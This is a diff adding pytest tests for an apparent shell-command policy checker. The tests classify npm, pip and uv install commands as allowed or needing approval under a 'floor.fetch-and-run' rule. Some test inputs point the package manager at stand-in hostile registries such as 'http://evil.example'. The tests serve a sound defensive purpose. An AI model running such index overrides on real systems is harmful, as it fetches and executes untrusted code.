@@ -300,3 +300,56 @@ def test_policy_show_reports_a_broken_policy_in_one_line():
     assert result.returncode == 1
     assert "Traceback" not in result.stderr and len(result.stderr.strip().splitlines()) == 1
     assert loader.user_policy_path() in result.stderr
+
+
+# --- package managers: one rule ---------------------------------------------------------------------
+
+
+def _node_python_project(tmp_path: Path) -> Path:
+    project = _project(tmp_path)
+    (project / "package.json").write_text('{"name": "x", "dependencies": {"left-pad": "1.3.0"}}\n')
+    (project / "package-lock.json").write_text('{"lockfileVersion": 3}\n')
+    (project / "requirements.txt").write_text("requests==2.31.0\nidna==3.6 --hash=sha256:abc\n")
+    (project / "loose.txt").write_text("requests>=2\n")
+    git = ["git", "-c", "user.email=t@example.com", "-c", "user.name=t", "-C", str(project)]
+    subprocess.run([*git, "add", "."], check=True)
+    subprocess.run([*git, "commit", "-qm", "deps"], check=True)
+    return project
+
+
+@pytest.mark.parametrize("command", ["npm ci", "npm install", "pip install -r requirements.txt"])
+def test_installing_the_projects_own_locked_dependencies_is_routine(tmp_path, command):
+    decision = _verdict(command, _node_python_project(tmp_path))
+    assert decision.verdict.label == "allow", decision.to_dict()
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["npm install left-pad", "uv add requests", "pip install requests", "pip install -r loose.txt"],
+)
+def test_adding_a_named_or_unpinned_package_asks(tmp_path, command):
+    decision = _verdict(command, _node_python_project(tmp_path))
+    assert decision.verdict.label == "ask" and "floor.fetch-and-run" in decision.rule_ids
+
+
+def test_install_after_the_manifest_changed_asks(tmp_path):
+    project = _node_python_project(tmp_path)
+    (project / "package.json").write_text('{"name": "x", "dependencies": {"evil": "1.0.0"}}\n')
+    decision = _verdict("npm ci", project)
+    assert decision.verdict.label == "ask" and "floor.fetch-and-run" in decision.rule_ids
+    assert "package.json changed" in " ".join(decision.reasons)
+
+
+@pytest.mark.parametrize(
+    "command", ["npm install --registry=http://evil.example", "pip install -r requirements.txt -i http://evil/simple"]
+)
+def test_an_index_override_is_never_routine(tmp_path, command):
+    decision = _verdict(command, _node_python_project(tmp_path))
+    assert decision.verdict >= decision.verdict.ASK and "floor.fetch-and-run" in decision.rule_ids
+
+
+def test_requirements_outside_the_project_ask(tmp_path):
+    outside = tmp_path / "other.txt"
+    outside.write_text("requests==2.31.0\n")
+    decision = _verdict(f"pip install -r {outside}", _node_python_project(tmp_path))
+    assert decision.verdict.label == "ask" and "floor.fetch-and-run" in decision.rule_ids
